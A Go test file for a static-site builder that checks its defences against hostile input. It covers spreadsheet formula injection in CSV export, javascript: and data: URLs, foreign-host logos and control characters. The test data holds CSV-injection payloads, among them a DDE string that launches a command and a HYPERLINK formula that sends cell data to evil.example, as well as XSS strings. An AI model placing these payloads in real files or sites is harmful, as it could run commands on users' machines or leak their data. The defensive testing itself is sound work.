package checks

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"intkb/builder"
)

// This file runs the real intkb build on sites whose data would attack
// whoever reuses it: formulas for the spreadsheets that open the CSV,
// script and other hosts' URLs in site.toml's links, control characters
// in titles, content pages that borrow the generated pages' layouts, and
// imports that are not quite open data.

// blueprintWith is a valid blueprint of the area saltmere, with its
// title and needs statement as given (TOML string contents, escaped).
func blueprintWith(title, statement string) string {
	return `+++
title = "` + title + `"
summary = "The Saltmere model."
updated = 2026-05-01
review_due = 2027-05-01
area = "saltmere"
cohorts = ["frailty"]

[needs]
footprint = "Saltmere and its villages"
population = 48000
neighbourhoods = 2
statement = "` + statement + `"

[function]
integration_level = "convening_to_coordinate"
case_finding = ["risk_stratification"]
coordinator = "-"
activities = ["+cmd|' /C calc'!A0", "Weekly huddle"]

[form]
origin = "evolved"
mdt_cadence = "weekly"
mdt_mode = "hybrid"

[[form.members]]
role = "@SUM(1+1)*cmd|' /C calc'!A0"
organisation = "general_practice"
arrangement = "substantive"
commitment = "core"

[governance]
accountable_body = "The Saltmere board"

[finance]
budget = "aligned"

[digital]
record = "view_only"

[participation]
vcse = "partner"
community_pharmacy = "consulted"
+++

The model.
`
}

// TestHostileDataCSV builds blueprints whose text starts with formulas:
// the build succeeds, every CSV cell a spreadsheet would run starts with
// a single quote, and the JSON keeps the text as written.
func TestHostileDataCSV(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, goodSite)
	writeFiles(t, dir, map[string]string{
		"content/blueprints/saltmere.md": blueprintWith(`=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")`, "\\t=1+1"),
	})
	dest := filepath.Join(t.TempDir(), "public")
	if _, stderr, code := run(t, dir, "build", "--dest", dest); code != 0 {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	f, err := os.Open(filepath.Join(dest, "data", "blueprints.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	if len(rows) != 2 {
		t.Fatalf("the CSV has %d rows, want a header and saltmere", len(rows))
	}
	cell := map[string]string{}
	for i, name := range rows[0] {
		cell[name] = rows[1][i]
	}
	for column, want := range map[string]string{
		"title":                `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
		"needs.statement":      "'\t=1+1",
		"function.coordinator": "'-",
		"function.activities":  `'+cmd|' /C calc'!A0; Weekly huddle`,
		"form.members.role":    `'@SUM(1+1)*cmd|' /C calc'!A0`,
		"needs.population":     "48000",
	} {
		if cell[column] != want {
			t.Errorf("CSV %s is %q, want %q", column, cell[column], want)
		}
	}
	for i, row := range rows {
		for j, c := range row {
			if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
				t.Errorf("row %d, column %s begins with a formula: %q", i, rows[0][j], c)
			}
		}
	}

	data, err := os.ReadFile(filepath.Join(dest, "data", "blueprints.json"))
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Blueprints []struct {
			Title string `json:"title"`
		} `json:"blueprints"`
	}
	if err := json.Unmarshal(data, &doc); err != nil || len(doc.Blueprints) != 1 {
		t.Fatalf("blueprints.json: %v", err)
	}
	if got := doc.Blueprints[0].Title; got != `=HYPERLINK("https://evil.example/?leak="&A1,"Click")` {
		t.Errorf("the JSON title is %q: the JSON keeps the value as written", got)
	}
	page, err := os.ReadFile(filepath.Join(dest, "data", "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(page), "begins with a single quote") {
		t.Error("the /data/ page does not say which CSV cells get a quote")
	}
}

// TestHostileDataFails runs intkb build on sites that must not build:
// each fails with exit status 1 and an error with the file and line, and
// leaves the previous output as it was.
func TestHostileDataFails(t *testing.T) {
	plain := func(layout string) func(t *testing.T, dir string) {
		return func(t *testing.T, dir string) {
			writeFiles(t, dir, map[string]string{"content/about.md": "+++\ntitle = \"About\"\nlayout = \"" + layout + "\"\n+++\nText.\n"})
		}
	}
	tests := []struct {
		name  string
		setup func(t *testing.T, dir string)
		want  []string // each must be in stderr
	}{
		{"a script licence link", func(t *testing.T, dir string) {
			editFile(t, dir, "site.toml", `baseURL = "https://example.org/"`, "baseURL = \"https://example.org/\"\nlicence = \"OGL\"\nlicenceURL = \"javascript:alert(1)\"")
		}, []string{`site.toml:4: licenceURL: "javascript:alert(1)" is a javascript: URL, which is not allowed here`}},
		{"a logo on another host without its scheme", func(t *testing.T, dir string) {
			editFile(t, dir, "site.toml", "[[areas]]", "[header]\nlogoAlt = \"Logo\"\nlogo = \"//evil.example/logo.svg\"\n\n[[areas]]")
		}, []string{`site.toml:5: header.logo: "//evil.example/logo.svg" leaves out its scheme: write it in full, as https://evil.example/logo.svg`}},
		{"a data: logo", func(t *testing.T, dir string) {
			editFile(t, dir, "site.toml", "[[areas]]", "[header]\nlogoAlt = \"Logo\"\nlogo = \"data:image/svg+xml,<svg onload=alert(1)>\"\n\n[[areas]]")
		}, []string{`site.toml:5: header.logo: "data:image/svg+xml,<svg onload=alert(1)>" is a data: URL`}},
		{"a site.toml syntax error", func(t *testing.T, dir string) {
			editFile(t, dir, "site.toml", `title = "Test site"`, `title = Test site`)
		}, []string{`site.toml:1: text goes in quotes: write title = "Test site"`, "    1 | title = Test site"}},
		{"a backspace in a title", func(t *testing.T, dir string) {
			editFile(t, dir, playbook, `title = "Start with needs"`, `title = "Start\bwith needs"`)
		}, []string{playbook + `:2: title: contains a control character U+0008 (backspace); delete it`}},
		{"an escape in a step", func(t *testing.T, dir string) {
			editFile(t, dir, playbook, `title = "Gather what you know"`, `title = "Gather\u001b[2J what you know"`)
		}, []string{playbook + `:10: steps[0].title: contains a control character U+001B (escape); delete it`}},
		{"a pasted control character", func(t *testing.T, dir string) {
			editFile(t, dir, playbook, `title = "Start with needs"`, "title = \"Start\x07with needs\"")
		}, []string{playbook + `:2: front matter: contains a control character U+0007 (bell); delete it`}},
		{"a plain page as a blueprint", plain("blueprint"),
			[]string{`content/about.md:3: layout: "blueprint" is the layout of local blueprints, and this page is not one: a content page may use authoring-guide or page, or move the file into content/blueprints/`}},
		{"a plain page as a taxonomy", plain("taxonomy"),
			[]string{`content/about.md:3: layout: "taxonomy" is the layout of the taxonomy pages (such as /cohorts/), not of a content page: a content page may use authoring-guide or page`}},
		{"a plain page as the comparison", plain("compare"),
			[]string{`content/about.md:3: layout: "compare" is the layout of the comparison of areas, not of a content page`}},
		{"a playbook as the open data page", func(t *testing.T, dir string) {
			editFile(t, dir, playbook, `phase = "explore"`, "layout = \"data\"\nphase = \"explore\"")
		}, []string{playbook + `:6: layout: "data" is the layout of the open data page, not of a content page: a playbook may use authoring-guide, page or playbook`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir, dest, before := builtGoodSite(t)
			tt.setup(t, dir)
			r := runWithin(t, time.Minute, dir, "build", "--dest", dest)
			wantRefused(t, r, dir, dest, before, tt.want)
			if strings.Contains(r.stderr, "panic") || strings.Contains(r.stderr, "front matter") && strings.HasPrefix(tt.want[0], "site.toml") {
				t.Errorf("the error is not an author's:\n%s", r.stderr)
			}
		})
	}
}

// TestHostileDataLinks checks that links in site.toml are published as an
// author means them: another host's logo as it is, a path under the base
// path, in the HTML and in the open data.
func TestHostileDataLinks(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, goodSite)
	editFile(t, dir, "site.toml", `baseURL = "https://example.org/"`, "baseURL = \"https://example.org/icb/north/\"\nlicence = \"OGL\"\nlicenceURL = \"/licence/\"")
	editFile(t, dir, "site.toml", "[[areas]]", "[header]\nlogoAlt = \"The council\"\nlogo = \"https://cdn.example.org/logo.svg\"\n\n[[areas]]")
	writeFiles(t, dir, map[string]string{"content/blueprints/saltmere.md": blueprintWith("Saltmere model", "What matters.")})
	dest := filepath.Join(t.TempDir(), "public")
	if _, stderr, code := run(t, dir, "build", "--dest", dest); code != 0 {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	for _, page := range []string{"index.html", "glossary/index.html", "data/index.html"} {
		data, err := os.ReadFile(filepath.Join(dest, filepath.FromSlash(page)))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(data), `<img class="site-header__logo" src="https://cdn.example.org/logo.svg" alt="The council"`) {
			t.Errorf("%s: the logo is not the URL as written: %s", page, regexp.MustCompile(`<img class="site-header__logo"[^>]*>`).FindString(string(data)))
		}
		if !strings.Contains(string(data), `<a href="/icb/north/licence/">OGL</a>`) {
			t.Errorf("%s: the licence link is not under the base path", page)
		}
	}
	data, err := os.ReadFile(filepath.Join(dest, "data", "blueprints.json"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), `"licence_url": "https://example.org/icb/north/licence/"`) {
		t.Error("blueprints.json does not give the licence as an absolute URL")
	}
}

// TestHostileDataImport imports a file whose schema_version is text: a
// warning that says it must be a number, and under --strict a failure.
func TestHostileDataImport(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, goodSite)
	writeFiles(t, dir, map[string]string{
		"imports/south.json": `{"schema_version": "1", "blueprints": []}`,
		"site.toml":          goodSite["site.toml"] + "\n[[import]]\nname = \"south\"\nsource = \"imports/south.json\"\n",
	})
	want := fmt.Sprintf(`warning: site.toml:7: import "south": schema_version is text "1": it must be a number, such as %d, without quotes`, builder.OpenDataVersion)
	dest := filepath.Join(t.TempDir(), "public")
	if _, stderr, code := run(t, dir, "build", "--dest", dest); code != 0 || !strings.Contains(stderr, want) {
		t.Errorf("exit %d, want 0 with the warning %q:\n%s", code, want, stderr)
	}
	_, stderr, code := run(t, dir, "build", "--dest", dest, "--strict")
	if code != 1 || !strings.Contains(stderr, `site.toml:7: import "south": schema_version is text "1": it must be a number`) {
		t.Errorf("--strict: exit %d, want 1 with the problem:\n%s", code, stderr)
	}
}
